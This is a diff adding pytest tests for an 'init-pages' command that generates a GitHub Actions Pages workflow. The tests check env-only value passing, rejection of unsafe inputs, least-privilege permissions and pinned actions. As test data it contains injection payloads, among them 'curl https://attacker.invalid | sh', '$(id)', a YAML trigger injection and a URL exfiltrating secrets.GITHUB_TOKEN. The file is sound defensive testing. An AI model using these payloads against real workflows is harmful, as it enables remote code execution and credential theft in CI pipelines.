@@ -12,6 +12,7 @@ import shutil
 import subprocess
 
 import pytest
+import yaml
 from click.testing import CliRunner
 
 from conftest import ROOT
@@ -203,3 +204,55 @@ def test_remote_and_branch_never_reach_git_as_options_or_stream_lines(repo, opti
     with pytest.raises(PublishError, match=f"^{option[0]} "):
         publish(work, bare, **opts)
     assert not (work / "pwned").exists() and branches(work) == ["main"]
+
+
+# -- init-pages: no option value reaches a shell line; least privilege; pinned actions -------
+
+def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path):
+    install = 'ikreport"; curl https://attacker.invalid/x | sh; echo "'
+    archive = "evidence $(id) `id` #"
+    main = "main], pull_request_target: {branches: [x"
+    result = run("init-pages", "--repo", tmp_path, "--archive", archive, "--install", install, "--main", main)
+    assert result.exit_code == 0, result.output
+    text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
+    workflow = yaml.safe_load(text)
+    assert workflow[True] == {"push": {"branches": [main]}, "workflow_dispatch": None}  # YAML 1.1 reads 'on' as True
+    steps = workflow["jobs"]["build"]["steps"]
+    runs = [s["run"] for s in steps if "run" in s]
+    assert runs == ['python -m pip install "$IKREPORT_INSTALL"', 'ikreport build "$IKREPORT_ARCHIVE" -o _site --strict']
+    env = {k: v for s in steps for k, v in s.get("env", {}).items()}
+    assert env == {"IKREPORT_INSTALL": install, "IKREPORT_ARCHIVE": archive}
+
+
+@pytest.mark.parametrize("option,value", [
+    ("--archive", "evidence\n      - run: curl https://attacker.invalid | sh"),
+    ("--install", "ikreport\r\n"),
+    ("--main", "main\u2028x"),
+    ("--install", "https://attacker.invalid/${{ secrets.GITHUB_TOKEN }}"),
+    ("--archive", ""),
+])
+def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value):
+    from ikreport.errors import WorkflowValueError
+    from ikreport.publish import init_pages
+
+    names = {"--archive": "archive", "--install": "install", "--main": "main"}
+    values = {"archive": "evidence", "install": "ikreport", "main": "main", names[option]: value}
+    with pytest.raises(WorkflowValueError):
+        init_pages(tmp_path, force=False, **values)
+    result = run("init-pages", "--repo", tmp_path, option, value)
+    assert result.exit_code == 1 and result.stderr.startswith(f"Error: {option} ") and result.stderr.count("\n") == 1
+    assert not (tmp_path / ".github").exists()
+
+
+def test_init_pages_grants_pages_rights_to_the_deploy_job_only_and_pins_actions(tmp_path):
+    assert run("init-pages", "--repo", tmp_path).exit_code == 0
+    text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
+    workflow = yaml.safe_load(text)
+    assert workflow["permissions"] == {}
+    jobs = workflow["jobs"]
+    assert {name: job["permissions"] for name, job in jobs.items()} == {
+        "build": {"contents": "read"}, "deploy": {"pages": "write", "id-token": "write"}}
+    uses = [line for line in text.splitlines() if "uses:" in line]
+    assert len(uses) == 4 and all(SHA_PIN.match(line) for line in uses), uses
+    checkout = next(s for s in jobs["build"]["steps"] if s.get("uses", "").startswith("actions/checkout@"))
+    assert checkout["with"]["persist-credentials"] is False
